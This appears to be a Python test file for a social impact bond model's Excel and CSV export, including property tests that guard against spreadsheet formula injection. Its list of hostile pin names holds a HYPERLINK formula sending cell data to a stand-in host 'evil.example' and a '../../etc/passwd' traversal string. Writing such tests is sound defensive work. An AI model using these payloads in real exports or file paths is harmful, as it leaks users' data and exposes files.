"""The Excel workbook and CSV zip: every sheet, with the model's own numbers."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sib_model import (
    PRESETS,
    Scenario,
    creaming_frontier,
    evaluate,
    parking_frontier,
)
from tests.fuzz._budget import examples
from ui.export.tables import (
    FILE_NAME_LENGTH,
    SHEET_NAME_LENGTH,
    Entry,
    csv_zip_bytes,
    export_tables,
    kind_of,
    neutralise_cell,
    portable_name,
    workbook_bytes,
)
from ui.text.translator import Translator

EN, DA = Translator("en"), Translator("da")


NOW = Scenario(cohort_size=60, difficulty=0.7)


BEFORE = Scenario()


@pytest.fixture(scope="module")
def tables():
    entries = [
        Entry(DA("scenario_current"), NOW, evaluate(NOW)),
        Entry("Baseline", BEFORE, evaluate(BEFORE)),
        Entry("Aalborg", PRESETS["aalborg"], evaluate(PRESETS["aalborg"])),
    ]
    return export_tables(
        entries, creaming_frontier(NOW, n_points=5), parking_frontier(NOW, n_points=3), DA
    )


def test_the_workbook_holds_every_sheet_with_the_models_numbers(tables):
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes(tables, DA)))
    assert book.sheetnames == [
        "Forudsætninger",
        "Resumé – Aktuelt",
        "Resumé – Baseline",
        "Resumé – Aalborg",
        "Pengestrømme",
        "Skumning af fløden",
        "Parkering",
    ]
    for sheet, scenario in (("Resumé – Aktuelt", NOW), ("Resumé – Aalborg", PRESETS["aalborg"])):
        summary = evaluate(scenario).summary
        rows = {row[0].value: row[1] for row in book[sheet].iter_rows(min_row=2)}
        for key in ("expected_investor_irr", "expected_commissioner_net", "deadweight_share"):
            assert rows[key].value == pytest.approx(summary[key], rel=1e-12)
            assert isinstance(rows[key].value, float)
        assert rows["expected_investor_irr"].number_format == "0.0 %"
        assert rows["expected_commissioner_net"].number_format == '#,##0" kr."'
    inputs = book["Forudsætninger"]
    header = [cell.value for cell in inputs[1]]
    assert header[:4] == ["Forudsætning", "Modelnavn", "Enhed", "Betydning"]
    cohort = next(row for row in inputs.iter_rows(min_row=2) if row[1].value == "cohort_size")
    assert cohort[4].value == 60
    assert cohort[3].value
    cash = book["Pengestrømme"]
    years = [row[1].value for row in cash.iter_rows(min_row=2) if row[0].value == "Aktuelt"]
    assert years == list(evaluate(NOW).cash_flows["year"])


def test_the_csv_zip_holds_the_same_tables_in_danish_notation(tables):
    archive = zipfile.ZipFile(io.BytesIO(csv_zip_bytes(tables, DA)))
    assert len(archive.namelist()) == len(tables)
    text = archive.read("Resumé – Aktuelt.csv").decode("utf-8-sig")
    line = next(row for row in text.splitlines() if row.startswith("expected_investor_irr;"))
    value = evaluate(NOW).summary["expected_investor_irr"]
    assert float(line.split(";")[1].replace(",", ".")) == pytest.approx(value, rel=1e-12)


def test_column_kinds_follow_the_models_names():
    assert kind_of("expected_investor_irr") == "percent"
    assert kind_of("expected_commissioner_net") == "money"
    assert kind_of("expected_investor_moic") == "multiple"
    assert kind_of("expected_additional_outcomes") == "count"


# --- Users' words are data, never code (issue 19, item 3) ---------------------------------

#: Pin names an attacker can put in a link (``p1=…``), as issue 19 lists them.
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A2,"Klik")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1+1",
    "＝1+1",
    '"; =1; "',
    "../../etc/passwd",
    "CON",
    ".hidden",
    "Æblegrød – ø/å: \"citat\" 'x' *?<>|",
    "\u202eevil\u200b",
    "x" * 500,
)
#: Excel and LibreOffice read a cell starting with one of these as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A portable sheet or file name: letters, digits, a little punctuation; no leading dot, dash
#: or space, no trailing dot or space.
PORTABLE = re.compile(r"[\w,()&](?:[\w \-.,()–&]*[\w,()&–-])?")

names = st.lists(
    st.one_of(st.sampled_from(HOSTILE_NAMES), st.text(max_size=120)), min_size=1, max_size=4
)
RESULT = evaluate(NOW)
CREAMING, PARKING = creaming_frontier(NOW, n_points=3), parking_frontier(NOW, n_points=3)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HOSTILE_NAMES[0], "'" + HOSTILE_NAMES[0]),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Aalborg", "Aalborg"),
        ("", ""),
        (-1.5, -1.5),
        (0, 0),
        (None, None),
    ],
)
def test_a_text_cell_that_starts_like_a_formula_gets_an_apostrophe_and_numbers_stay(text, written):
    assert neutralise_cell(text) == written


def _tables(pins: list[str], t: Translator):
    entries = [Entry(t("scenario_current"), NOW, RESULT)]
    entries += [Entry(name, NOW, RESULT) for name in pins]
    return export_tables(entries, CREAMING, PARKING, t)


def _is_number(cell: str, t: Translator) -> bool:
    try:
        float(cell.replace(",", ".") if t.lang == "da" else cell)
    except ValueError:
        return False
    return True


@settings(max_examples=examples(25, 500), deadline=None)
@given(pins=names, t=st.sampled_from([EN, DA]))
def test_no_csv_cell_of_any_table_starts_a_formula_whatever_the_pin_names(pins, t):
    tables = _tables(pins, t)
    archive = zipfile.ZipFile(io.BytesIO(csv_zip_bytes(tables, t)))
    entries = archive.namelist()
    assert len(entries) == len(tables)
    assert len({e.lower() for e in entries}) == len(entries)
    sep = ";" if t.lang == "da" else ","
    for entry, table in zip(entries, tables, strict=True):
        stem = entry.removesuffix(".csv")
        assert entry.endswith(".csv")
        assert 0 < len(stem) <= FILE_NAME_LENGTH
        assert PORTABLE.fullmatch(stem), entry
        text = archive.read(entry).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))
        frame = table.frame
        assert len(rows) == len(frame) + 1
        for cell, column in zip(rows[0], frame.columns, strict=True):
            assert cell == neutralise_cell(str(column))
        for row, values in zip(rows[1:], frame.itertuples(index=False), strict=True):
            for cell, value in zip(row, values, strict=True):
                if isinstance(value, str):
                    assert cell == neutralise_cell(value)
                if cell.startswith(FORMULA_STARTS):
                    assert not isinstance(value, str), cell
                    assert _is_number(cell, t), cell
        for cell in (c for row in rows for c in row):
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell, t), cell


@settings(max_examples=examples(15, 300), deadline=None)
@given(pins=names)
def test_the_workbook_writes_every_name_as_a_string_cell_under_portable_sheet_names(pins):
    tables = _tables(pins, EN)
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes(tables, EN)))
    assert len(book.sheetnames) == len(tables)
    assert len({n.lower() for n in book.sheetnames}) == len(tables)
    for name in book.sheetnames:
        assert 0 < len(name) <= SHEET_NAME_LENGTH, name
        assert PORTABLE.fullmatch(name), name
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    header = book.worksheets[0][1]
    written = tables[0].frame.columns[4:]
    for cell, name in zip(header[4:], written, strict=True):
        assert cell.data_type == "s"
        if name.isprintable():  # xlsx escapes control characters in its own way
            assert cell.value == name


def test_a_formula_looking_pin_name_is_a_string_cell_in_the_workbook():
    hostile = HOSTILE_NAMES[0]
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes(_tables([hostile], EN), EN)))
    inputs = book.worksheets[0]
    cell = inputs.cell(row=1, column=6)
    assert cell.value == hostile
    assert cell.data_type == "s"
    cash = book.worksheets[-3]
    scenario_cells = [row[0] for row in cash.iter_rows(min_row=2) if row[0].value == hostile]
    assert scenario_cells
    assert all(c.data_type == "s" for c in scenario_cells)


def test_the_issues_hyperlink_pin_is_neutralised_in_every_csv_and_its_file_name():
    hostile = HOSTILE_NAMES[0]
    archive = zipfile.ZipFile(io.BytesIO(csv_zip_bytes(_tables([hostile], EN), EN)))
    assert "Summary – HYPERLINK( http evil.csv" in archive.namelist()
    inputs = archive.read(archive.namelist()[0]).decode("utf-8-sig")
    assert "'=HYPERLINK(" in inputs
    assert ",=HYPERLINK" not in inputs
    for entry in archive.namelist():
        assert not re.search(r'["/\\:*?<>|]', entry)


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("../../etc/passwd", "etc passwd"),
        (".hidden", "hidden"),
        ("CON", "CON_"),
        ("a:b*c?d", "a b c d"),
        ("", "Sheet"),
        ("x" * 40, "x" * 31),
    ],
)
def test_sheet_and_file_names_are_reduced_to_portable_characters(text, name):
    assert portable_name(text, set(), SHEET_NAME_LENGTH) == name


def test_a_repeated_name_is_numbered_within_the_limit():
    used: set[str] = set()
    first = portable_name("x" * 40, used, SHEET_NAME_LENGTH)
    second = portable_name("X" * 40, used, SHEET_NAME_LENGTH)
    assert first == "x" * 31
    assert second == "X" * 27 + " (2)"
